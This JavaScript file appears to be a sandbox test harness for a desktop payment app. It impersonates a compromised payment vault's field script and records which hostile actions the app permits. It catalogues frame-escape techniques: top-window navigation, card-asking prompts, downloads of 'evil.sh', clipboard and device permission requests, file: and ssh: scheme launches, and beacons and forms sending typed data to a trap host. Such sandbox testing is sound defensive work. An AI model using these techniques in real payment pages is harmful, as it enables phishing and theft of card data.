/* A vault that has turned against the desk. The same script runs in the host page, in the place of the vault's own, and
 * in the frames of its fields: it tries what one attack is made of, once by itself and once more under a pressed key,
 * and writes down what it was answered. An empty answer says that an attempt came to nothing. */
(function (evil) {
  'use strict';

  var PATIENCE_MS = 300;
  // Two navigations in one turn would cancel each other.
  var SPACING_MS = 20;
  var inFrame = window !== window.top;
  var record = { attack: evil.attack, tried: {}, rounds: 0 };

  function trap(what) {
    return evil.trap + '/' + evil.attack + '/' + (inFrame ? 'frame' : 'page') + '/' + what;
  }

  function pause(ms) {
    return new Promise(function (resolve) { setTimeout(resolve, ms); });
  }

  function attempt(name, act) {
    var answered = new Promise(function (resolve) { resolve(act()); });
    return Promise.race([answered, pause(PATIENCE_MS)])
      .then(function (answer) { return answer ? String(answer) : ''; }, function () { return ''; })
      .then(function (answer) { record.tried[name] = record.tried[name] || answer; return pause(SPACING_MS); });
  }

  function add(tag, attributes, parent) {
    var element = document.createElement(tag);
    Object.keys(attributes).forEach(function (name) { element.setAttribute(name, attributes[name]); });
    (parent || document.body).appendChild(element);
    return element;
  }

  /** An element that is answered when it loads something; one that is refused says so, or nothing. */
  function loaded(tag, attributes, parent) {
    return new Promise(function (resolve) {
      var element = add(tag, attributes, parent);
      element.onload = function () { resolve(tag === 'iframe' ? '' : 'loaded'); };
      element.onerror = function () { resolve(''); };
    });
  }

  function click(attributes) {
    var link = add('a', attributes);
    link.textContent = 'x';
    link.click();
    link.remove();
  }

  /** Say whether a window is there; one that the desk refuses is closed before it is shown. */
  function opened(name, address, features) {
    var other = window.open(address, name, features);
    return pause(10 * SPACING_MS).then(function () { return other && !other.closed && 'opened'; });
  }

  function post(target, address) {
    var form = add('form', { method: 'post', action: address, target: target });
    add('input', { name: 'number', value: 'typed' }, form);
    form.submit();
    form.remove();
  }

  /** Wait for `promise`; when it is kept, say that `what` was granted. */
  function granted(what, promise) {
    return promise.then(function () { return what; });
  }

  function socket() {
    return new Promise(function (resolve) {
      var opened = new WebSocket(trap('socket').replace('http', 'ws'));
      opened.onopen = function () { resolve('opened'); };
      opened.onerror = function () { resolve(''); };
    });
  }

  function stream() {
    return new Promise(function (resolve) {
      var source = new EventSource(trap('stream'));
      source.onopen = function () { resolve('opened'); };
      source.onerror = function () { source.close(); resolve(''); };
    });
  }

  function request(method, what) {
    return new Promise(function (resolve) {
      var sent = new XMLHttpRequest();
      sent.open(method, trap(what));
      sent.onload = function () { resolve('answered'); };
      sent.onerror = function () { resolve(''); };
      sent.send('typed');
    });
  }

  function to(address) {
    return function () { window.location.href = address; };
  }

  function top(address) {
    return function () { window.top.location = address; };
  }

  var blob = URL.createObjectURL(new Blob(['<script>parent.postMessage({ through: "blob" }, "*")<' + '/script>'],
    { type: 'text/html' }));
  var SCHEMES = ['mailto:a@evil.example', 'tel:+441632960000', 'sms:+441632960000', 'ssh://evil.example/',
    'file:///etc/hostname', 'ms-settings:privacy', 'steam://run/1', 'intent://x#Intent;end', 'chrome://version',
    'chrome://crash', 'devtools://devtools/bundled/inspector.html', 'view-source:' + evil.trap, 'qrc:/', 'data:text/html,x',
    'blob:' + evil.trap, 'filesystem:' + evil.trap, 'javascript:void(window.ran=1)',
    'deskpay://evil/', 'deskpay://capture/other', 'deskpay:capture'];

  var ATTACKS = {
    navigation: function () {
      return {
        'location': to(trap('location')),
        'replace': function () { location.replace(trap('replace')); },
        'top': top(trap('top')),
        'link': function () { click({ href: trap('link') }); },
        'link to the top': function () { click({ href: trap('link-top'), target: '_top' }); },
        'form': function () { post('_self', trap('form')); },
        'form to the top': function () { post('_top', trap('form-top')); },
        'refresh': function () { add('meta', { 'http-equiv': 'refresh', content: '0;url=' + trap('refresh') }, document.head); },
        'top to the vault': top(evil.vault + '/upp/payment/js/secure-fields-2.0.0.js'),
        'top to the page': top('deskpay://capture/'),
        'base': function () { add('base', { href: evil.trap + '/' }, document.head); click({ href: 'base', target: '_top' }); },
        'ping': function () { click({ href: '#x', ping: trap('ping') }); },
      };
    },
    leaving: function () {
      return { 'top to nothing': top('about:blank') };
    },
    popup: function () {
      return {
        'open': function () { return opened('', trap('open')); },
        'open without opener': function () { return opened('_blank', trap('noopener'), 'noopener'); },
        'open with a size': function () { return opened('w', trap('sized'), 'width=200,height=200'); },
        'open nothing': function () { return opened('', 'about:blank'); },
        'link': function () { click({ href: trap('link'), target: '_blank' }); },
        'link to another name': function () { click({ href: trap('named'), target: 'another' }); },
        'form': function () { post('_blank', trap('form')); },
        'confirm': function () { return window.confirm('Your card?') && 'confirmed'; },
        'prompt': function () { return window.prompt('Your card?') && 'answered'; },
        'alert': function () { window.alert('Your card'); },
        'print': function () { window.print(); },
        'leaving': function () { window.onbeforeunload = function () { return 'stay'; }; },
      };
    },
    download: function () {
      return {
        'link': function () { click({ href: evil.vault + evil.file, download: 'evil.sh' }); },
        'blob': function () { click({ href: blob, download: 'evil.html' }); },
        'data': function () { click({ href: 'data:text/plain,evil', download: 'evil.txt' }); },
        'frame': function () { add('iframe', { src: evil.vault + evil.file }); },
        'top': top(evil.vault + evil.file),
        'open': function () { return opened('', evil.vault + evil.file); },
        'foreign': function () { click({ href: trap('file'), download: 'evil.sh' }); },
      };
    },
    permission: function () {
      var seen = navigator.mediaDevices || {};
      return {
        'camera': function () { return granted('camera', seen.getUserMedia({ video: true })); },
        'microphone': function () { return granted('microphone', seen.getUserMedia({ audio: true })); },
        'screen': function () { return granted('screen', seen.getDisplayMedia({ video: true })); },
        'place': function () {
          return new Promise(function (resolve) {
            navigator.geolocation.getCurrentPosition(function () { resolve('place'); }, function () { resolve(''); });
          });
        },
        'notices': function () {
          return Notification.requestPermission().then(function (said) { return said === 'granted' && said; });
        },
        'reading the clipboard': function () { return granted('clipboard', navigator.clipboard.readText()); },
        'writing the clipboard': function () { return granted('clipboard', navigator.clipboard.writeText('evil')); },
        'pasting': function () { return document.execCommand('paste') && 'pasted'; },
        'the whole screen': function () { return granted('screen', document.documentElement.requestFullscreen()); },
        'the pointer': function () { document.body.requestPointerLock(); return document.pointerLockElement && 'pointer'; },
        'opening files': function () { return granted('files', window.showOpenFilePicker()); },
        'saving files': function () { return granted('files', window.showSaveFilePicker()); },
        'a folder': function () { return granted('folder', window.showDirectoryPicker()); },
        'choosing files': function () {
          var chooser = add('input', { type: 'file' });
          chooser.click();
          return chooser.files.length && 'chosen';
        },
        'devices': function () { return granted('usb', navigator.usb.requestDevice({ filters: [] })); },
        'ports': function () { return granted('serial', navigator.serial.requestPort()); },
        'instruments': function () { return granted('midi', navigator.requestMIDIAccess({ sysex: true })); },
        'keys': function () {
          return granted('key', navigator.credentials.get({ publicKey: { challenge: new Uint8Array(32) } }));
        },
        'lasting storage': function () { return navigator.storage.persist().then(function (kept) { return kept && 'kept'; }); },
        'storage': function () { window.localStorage.setItem('evil', 'typed'); return window.localStorage.getItem('evil'); },
        'a protocol': function () { navigator.registerProtocolHandler('web+evil', evil.vault + '/%s'); },
        'a worker that stays': function () { return granted('worker', navigator.serviceWorker.register('/evil.js')); },
      };
    },
    foreign: function () {
      return {
        'frame': function () { return loaded('iframe', { src: trap('frame') }); },
        'frame of text': function () { return loaded('iframe', { srcdoc: '<img src="' + trap('srcdoc') + '">' }); },
        'frame of a blob': function () { return loaded('iframe', { src: blob }); },
        'frame of data': function () { return loaded('iframe', { src: 'data:text/html,<img src="' + trap('data') + '">' }); },
        'object': function () { return loaded('object', { data: trap('object') }); },
        'embed': function () { return loaded('embed', { src: trap('embed') }); },
        'image': function () { return loaded('img', { src: trap('image') }); },
        'script': function () { return loaded('script', { src: trap('script') }, document.head); },
        'style': function () { return loaded('link', { rel: 'stylesheet', href: trap('style') }, document.head); },
        'icon': function () { add('link', { rel: 'icon', href: trap('icon') }, document.head); },
        'prefetch': function () { add('link', { rel: 'prefetch', href: trap('prefetch') }, document.head); },
        'prerender': function () { add('link', { rel: 'prerender', href: trap('prerender') }, document.head); },
        'manifest': function () { add('link', { rel: 'manifest', href: trap('manifest') }, document.head); },
        'sound': function () { add('audio', { src: trap('sound'), autoplay: '' }); },
        'background': function () { document.body.style.background = 'url(' + trap('background') + ')'; },
        'fetch': function () { return fetch(trap('fetch'), { mode: 'no-cors' }).then(function () { return 'answered'; }); },
        'request': function () { return request('POST', 'request'); },
        'beacon': function () { navigator.sendBeacon(trap('beacon'), 'typed'); },
        'socket': socket,
        'stream': stream,
        'worker': function () { return new Worker(trap('worker')) && ''; },
      };
    },
    scheme: function () {
      var attempts = {};
      SCHEMES.forEach(function (address) {
        attempts['location ' + address] = inFrame ? top(address) : to(address);
        attempts['link ' + address] = function () { click({ href: address, target: '_top' }); };
        attempts['frame ' + address] = function () { add('iframe', { src: address }).remove(); };
        attempts['open ' + address] = function () { window.open(address); };
      });
      attempts.script = function () { return window.ran && 'ran'; };
      return attempts;
    },
  };

  function report() {
    record.rounds += 1;
    if (inFrame) window.parent.postMessage({ evil: record }, '*');
  }

  function strike() {
    var attempts = ATTACKS[evil.attack]();
    return Object.keys(attempts).reduce(function (before, name) {
      return before.then(function () { return attempt(name, attempts[name]); });
    }, Promise.resolve()).then(report);
  }

  function listen(event) {
    if (event.data && event.data.evil) window.evilFrame = event.data.evil;
    if (event.data && event.data.through) record.tried[event.data.through] = 'through';
  }

  /** Stand in for the vault's script, so that the pane believes its fields to be there. */
  function SecureFields() {
    var handlers = {};
    return {
      on: function (event, handler) { handlers[event] = handler; },
      initTokenize: function () {
        window.evilHandlers = handlers;
        add('iframe', { src: evil.vault + evil.frame, name: 'evil' }, document.getElementById('slot-number'));
        handlers.ready();
        // What the pane was just told is a navigation, which another one would overtake.
        setTimeout(strike, 10 * SPACING_MS);
      },
      submit: function () {},
      setStyle: function () {},
      focus: function () { document.querySelector('iframe[name=evil]').contentWindow.focus(); },
    };
  }

  window.evil = record;
  window.addEventListener('message', listen);
  window.addEventListener('keydown', strike);
  if (inFrame) window.addEventListener('load', strike);
  else window.SecureFields = SecureFields;
})
